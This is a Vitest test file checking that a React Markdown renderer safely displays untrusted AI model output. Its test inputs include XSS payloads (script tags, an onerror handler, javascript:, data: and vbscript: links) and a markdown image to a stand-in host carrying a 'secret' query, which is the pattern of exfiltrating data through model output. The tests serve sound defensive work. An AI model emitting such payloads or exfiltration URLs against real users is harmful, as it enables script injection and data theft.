import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown.tsx';

const render = (source: string) => renderToStaticMarkup(<Markdown>{source}</Markdown>);

describe('Markdown (untrusted model output)', () => {
  it('renders GFM and highlights code with a copy button', () => {
    const html = render('# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x: number = 1;\n```\n');
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<table>');
    expect(html).toContain('class="hljs language-ts"');
    expect(html).toContain('<span class="hljs-keyword">const</span>');
    expect(html).toContain('Copy');
  });

  it('treats golang fences as Go', () => {
    expect(render('```golang\nfunc main() {}\n```')).toContain('<span class="hljs-keyword">func</span>');
  });

  it('shows raw HTML as text: no script, no event handler attributes', () => {
    const html = render('<script>alert(1)</script>\n\n<img src=x onerror="alert(2)">\n\nok <b>bold</b>');
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<b>/);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('onerror=&quot;alert(2)&quot;');
  });

  it('neutralises javascript:, data: and vbscript: links', () => {
    const html = render(
      '[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) [z](vbscript:msgbox) [ok](https://example.com)',
    );
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toMatch(/data:text/i);
    expect(html).not.toMatch(/vbscript:/i);
    expect(html).toContain('href="https://example.com"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
  });

  it('never fetches images: they become links', () => {
    const html = render('![leak](https://evil.example/p.png?q=secret) ![bad](javascript:alert(1))');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('href="https://evil.example/p.png?q=secret"');
    expect(html).not.toMatch(/javascript:/i);
  });
});
